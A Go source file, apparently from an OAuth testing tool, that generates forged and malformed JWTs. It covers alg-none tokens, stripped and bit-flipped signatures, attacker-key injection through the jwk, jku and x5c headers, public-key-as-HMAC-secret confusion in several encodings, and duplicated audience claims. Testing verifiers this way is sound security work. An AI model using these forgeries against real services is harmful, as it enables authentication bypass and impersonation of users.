package forge

import (
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"math/big"
	"strings"
	"time"

	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"

	"github.com/oauthctl/oauthctl/pkg/jwks"
)

// breakBase64 makes the length of the signature impossible for base64: four
// characters encode three bytes, so a single one left over encodes nothing.
func breakBase64(d *Draft) (string, error) {
	raw, err := d.valid()
	for dot := strings.LastIndexByte(raw, '.'); err == nil && (len(raw)-dot-1)%4 != 1; {
		raw += "A"
	}
	return raw, err
}

// breakHeader removes the last brace of the header.
func breakHeader(d *Draft) (string, error) {
	raw, err := d.valid()
	if err != nil {
		return "", err
	}
	header, rest, _ := strings.Cut(raw, ".")
	text, err := base64.RawURLEncoding.DecodeString(header)
	if err != nil {
		return "", err
	}
	return base64.RawURLEncoding.EncodeToString(text[:len(text)-1]) + "." + rest, nil
}

func spoilSignature(d *Draft) (string, error) {
	raw, err := d.valid()
	if err != nil {
		return "", err
	}
	dot := strings.LastIndexByte(raw, '.')
	signature, err := base64.RawURLEncoding.DecodeString(raw[dot+1:])
	if err != nil {
		return "", err
	}
	signature[len(signature)/2] ^= 1
	return raw[:dot+1] + base64.RawURLEncoding.EncodeToString(signature), nil
}

func stripSignature(d *Draft) (string, error) {
	raw, err := d.valid()
	return raw[:strings.LastIndexByte(raw, '.')+1], err
}

func signAsAttacker(d *Draft) (string, error) {
	key, err := d.attacker()
	if err != nil {
		return "", err
	}
	return d.signBy(key)
}

func signAsSibling(d *Draft) (string, error) {
	if d.Sibling == nil {
		return d.signBy(d.Key)
	}
	d.Header["alg"], d.Header["kid"] = d.Sibling.Algorithm(), d.Sibling.ID()
	return d.signBy(d.Sibling)
}

// signUnderOwnKid signs with the attacker's key and its kid.
func signUnderOwnKid(d *Draft) (string, error) {
	key, err := d.attacker()
	if err != nil {
		return "", err
	}
	d.Header["kid"] = key.ID()
	return d.signBy(key)
}

// embedKey puts the key into the header (RFC 7515, section 4.1.3).
func embedKey(d *Draft) (string, error) {
	key, err := d.attacker()
	if err != nil {
		return "", err
	}
	public, err := json.Marshal(key.Public())
	if err != nil {
		return "", err
	}
	d.Header["jwk"] = jsontext.Value(public)
	return signUnderOwnKid(d)
}

// pointToKey puts the URL of a key set into the header (RFC 7515, section
// 4.1.2).
func pointToKey(d *Draft) (string, error) {
	d.Header["jku"] = d.KeyURL
	if d.KeyURL == "" {
		d.Header["jku"] = otherKeySet
	}
	return signUnderOwnKid(d)
}

// embedCertificate puts a self-signed certificate of the key into the header
// (RFC 7515, section 4.1.6).
func embedCertificate(d *Draft) (string, error) {
	key, err := d.attacker()
	if err != nil {
		return "", err
	}
	now := time.Now()
	if issued := d.seconds("iat"); issued > 0 { // the clock of the draft
		now = time.Unix(issued, 0)
	}
	certificate := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "issuer.example"},
		NotBefore: now.Add(-time.Hour), NotAfter: now.Add(24 * time.Hour),
	}
	der, err := x509.CreateCertificate(rand.Reader, certificate, certificate, key.Signer().Public(), key.Signer())
	if err != nil {
		return "", errors.New("the certificate cannot be signed")
	}
	d.Header["x5c"] = []string{base64.StdEncoding.EncodeToString(der)}
	return signUnderOwnKid(d)
}

// leaveUnsigned writes a token with that alg and without a signature.
func leaveUnsigned(alg string) func(*Draft) (string, error) {
	return func(d *Draft) (string, error) {
		d.Header["alg"] = alg
		delete(d.Header, "kid")
		claims, err := encode(d.Claims)
		if err != nil {
			return "", err
		}
		input, err := d.input(claims)
		return input + ".", err
	}
}

// signWithSecret signs with an HMAC and a secret that an attacker knows.
func signWithSecret(alg string, secret []byte) func(*Draft) (string, error) {
	return func(d *Draft) (string, error) {
		d.Header["alg"] = alg
		claims, err := encode(d.Claims)
		if err != nil {
			return "", err
		}
		input, err := d.input(claims)
		mac := hmac.New(sha256.New, secret)
		mac.Write([]byte(input))
		return input + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil)), err
	}
}

// confuse signs with the public key as the HMAC secret, in one of the encodings
// that a verifier may use (RFC 8725, section 2.1).
func confuse(form func(*jwks.Key) ([]byte, error)) func(*Draft) (string, error) {
	return func(d *Draft) (string, error) {
		key, err := d.public()
		if err != nil {
			return "", err
		}
		public, err := form(key)
		if err != nil {
			return "", err
		}
		return signWithSecret("HS256", public)(d)
	}
}

func publicPEM(k *jwks.Key) ([]byte, error) { return k.MarshalPEM() }

func publicTrimmed(k *jwks.Key) ([]byte, error) {
	text, err := k.MarshalPEM()
	return []byte(strings.TrimSuffix(string(text), "\n")), err
}

func publicDER(k *jwks.Key) ([]byte, error) {
	text, err := k.MarshalPEM()
	block, _ := pem.Decode(text)
	if err != nil || block == nil {
		return nil, errors.New("the public key cannot be written")
	}
	return block.Bytes, nil
}

func publicJWK(k *jwks.Key) ([]byte, error) { return json.Marshal(k) }

// repeatAudience writes aud twice, with the correct one first.
func repeatAudience(d *Draft) (string, error) {
	claims, err := encode(d.Claims)
	if err != nil {
		return "", err
	}
	return d.signText(d.Key, append(claims[:len(claims)-1], `,"aud":"`+otherAPI+`"}`...))
}
